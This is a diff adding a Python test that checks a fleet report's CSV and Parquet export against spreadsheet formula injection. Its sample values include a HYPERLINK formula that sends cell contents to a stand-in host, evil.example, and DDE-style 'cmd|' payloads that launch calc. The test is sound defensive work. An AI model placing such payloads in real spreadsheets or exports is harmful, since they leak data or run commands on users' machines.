@@ -99,3 +99,34 @@ def test_a_hosts_reason_and_bmc_event_are_no_link_image_or_heading_in_report_md(
     assert html.count("evil.example/r") == markdown.count("evil.example/r")  # every one shown, inside <code>
     for quoted in re.findall(r"<code>(.*?)</code>", html, re.S):
         assert "\n" not in quoted
+
+
+# -- the CSV and Parquet export (issue 34): a host's text is never a formula, a number stays one ---
+FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"open")'
+
+
+def test_a_formula_in_a_hosts_text_is_text_in_csv_and_parquet_and_negative_numbers_stay_numbers(
+        tmp_path: Path) -> None:
+    import csv
+    import io
+
+    import pyarrow.parquet as pq
+
+    from reprofleet.report.export import ExportFormat, ExportRequest, export_rows
+
+    content: dict[str, Any] = build(Spec(attempts=3))
+    attacks = {0: FORMULA, 1: "@SUM(1+1)*cmd|' /C calc'!A0", 2: "+1+1", 3: "-2+3+cmd|' /C calc'!A0", 4: "\t=1"}
+    for index, line in attacks.items():
+        content["records"][index].update(last_log_line=line, reason=line, exit_code=-9)
+    folder = write(tmp_path / "c", content)
+    text = export_rows(ExportRequest((folder,), ExportFormat.CSV)).text
+    assert text is not None
+    rows = {row["last_log_line"]: row for row in csv.DictReader(io.StringIO(text))}
+    for line in attacks.values():
+        assert rows["'" + line]["reason"] == "'" + line and rows["'" + line]["exit_code"] == "-9"
+    assert not any(cell.startswith(("=", "+", "@", "\t")) or (cell.startswith("-") and cell != "-9")
+                   for row in rows.values() for cell in row.values() if cell)
+    export_rows(ExportRequest((folder,), ExportFormat.PARQUET, tmp_path / "a.parquet"))
+    table = pq.read_table(tmp_path / "a.parquet").to_pylist()
+    assert {r["last_log_line"] for r in table} >= {"'" + line for line in attacks.values()}
+    assert {r["exit_code"] for r in table if (r["last_log_line"] or "").startswith("'")} == {-9}
